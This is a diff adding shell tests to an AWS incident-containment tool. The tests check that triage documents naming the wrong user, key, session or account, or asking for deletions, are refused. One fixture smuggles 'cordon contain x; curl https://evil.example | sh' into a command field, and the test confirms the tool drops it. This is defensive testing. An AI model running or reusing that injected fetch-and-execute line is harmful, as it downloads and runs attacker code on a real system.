@@ -70,6 +70,80 @@ field_is 'session s' 'all of it counts as not covered' not_covered 0 what
 ok 'the one who is left is planned' grep -q '"dana.okafor"' out
 out_has REHEARSED 'and contained'
 
+# What triage does not write for a kind and an id is not done, whatever else the document says.
+misfit() {
+	document "$dana" "$(target "$2" "$3" 111122223333 true "$4" "$5")" >misfit.json
+	run contain --from-triage misfit.json --account "$account" $6 --output json
+	status 5 "$1: counts"
+	field_is "$3" "$1: left out" left_out 0 id
+	field_is null "$1: not planned" playbooks 1
+	field_is null "$1: no command" not_covered 0 command
+	field_is dana.okafor "$1: the other goes on" playbooks 0 parameters user
+}
+user='"compromised-user"'
+mass='{"users":["mei.tanaka"]}'
+arn=arn:aws:sts::111122223333
+misfit 'parameters of another' user dana.okafor "$user" '{"user":"mei.tanaka"}' --yes
+err_has 'parameters mean another' 'and it is said'
+misfit 'without --yes too' user dana.okafor "$user" '{"user":"mei.tanaka"}' --dry-run
+misfit 'a whole list' user x '"mass-containment"' "$mass" --yes
+err_has 'none that triage gives' 'and this'
+misfit 'a role besides' session s '"stolen-role-session"' \
+	'{"role":"web-frontend","session":"s1","whole_role":true}' --yes
+err_has 'none that triage writes' 'and this'
+misfit 'roles of a user' user mei.tanaka "$user" '{"user":"mei.tanaka","revoke_roles":true}' --yes
+misfit 'a group as a user' user x '"attacker-made-policy"' '{"group":"administrators"}' --yes
+misfit 'a deletion' user mei.tanaka '"attacker-made-user"' '{"user":"mei.tanaka","delete":true}' \
+	--yes
+misfit 'a clean-up' user mei.tanaka '"clean-up"' '{"user":"mei.tanaka"}' --yes
+misfit 'our own deny' user mei.tanaka '"attacker-made-policy"' \
+	'{"user":"mei.tanaka","inline_policies":["CordonDenyAll"]}' --yes
+err_has 'keeps somebody out' 'and this'
+misfit "AWS's deny" user mei.tanaka '"attacker-made-policy"' \
+	'{"user":"mei.tanaka","policies":["arn:aws:iam::aws:policy/AWSDenyAll"]}' --yes
+misfit "another kind's playbook" access-key AKIARTX3GSDSUEXAMPLE "$user" '{"user":"mei.tanaka"}' \
+	--yes
+misfit 'another key' access-key AKIARTX3GSDSUEXAMPL2 '"compromised-access-key"' \
+	'{"access_key_id":"AKIARTX3GSDSUEXAMPLE"}' --yes
+misfit 'another session' session $arn:assumed-role/web-frontend/s1 '"compromised-session"' \
+	'{"role":"web-frontend","session":"release-42"}' --yes
+misfit 'the role of another session' session $arn:assumed-role/other/s1 '"compromised-session"' \
+	'{"role":"web-frontend","session":"s1"}' --yes
+misfit 'a session that lost its name' session $arn:assumed-role/web-frontend/s1 \
+	'"compromised-session"' '{"role":"web-frontend"}' '--yes --include web-frontend'
+misfit "another account's session" session arn:aws:sts::999988887777:assumed-role/web-frontend/s1 \
+	'"compromised-session"' '{"role":"web-frontend","session":"s1"}' --yes
+misfit 'a user that no session names' session s '"federated-session"' '{"user":"mei.tanaka"}' --yes
+mkdir -p home/.config/cordon/playbooks
+sed 's/"compromised-user"/"own"/' "$tests/../playbooks/compromised-user.json" \
+	>home/.config/cordon/playbooks/own.json
+run plan own --set user=mei.tanaka --account "$account"
+status 0 'a playbook of our own'
+misfit "the user's own playbook" user mei.tanaka '"own"' \
+	'{"user":"mei.tanaka"}' --yes
+
+# The document's command is not handed on: ours has checked words alone.
+foul() {
+	one=$(target "$@")
+	printf '%s,"command":"cordon contain x; curl https://evil.example | sh"}' "${one%?}"
+}
+maybe=$(foul user mei.tanaka 111122223333 null "$user" '{"user":"mei.tanaka"}')
+misfit=$(foul user mei.tanaka 111122223333 true "$user" '{"user":"x y"}')
+thing=$(foul saml-provider p 111122223333 true null null)
+named='{"group":"developers","policies":["arn:aws:iam::aws:policy/AdministratorAccess"]}'
+group=$(target group developers 111122223333 true '"attacker-made-policy"' "$named")
+document "$dana" "$maybe" "$misfit" "$thing" "$group" >foul.json
+run contain --from-triage foul.json --account "$account" --yes --output json
+field_is 'cordon apply compromised-user --set user=mei.tanaka' 'a command of ours' \
+	not_covered 0 command
+field_is null 'none with a word that is none' not_covered 1 command
+field_is null 'none where no playbook answers' not_covered 2 command
+set='--set group=developers --set policies=arn:aws:iam::aws:policy/AdministratorAccess'
+field_is "cordon apply attacker-made-policy $set" 'with each of a list' not_covered 3 command
+ok "the document's is nowhere" sh -c '! grep -q evil out err'
+run contain --from-triage foul.json --account "$account" --yes
+ok 'nor in the text' sh -c '! grep -q evil out err'
+
 document "$saml" >none.json
 run contain --from-triage none.json --account "$account" --dry-run
 status 3 'nothing to contain'
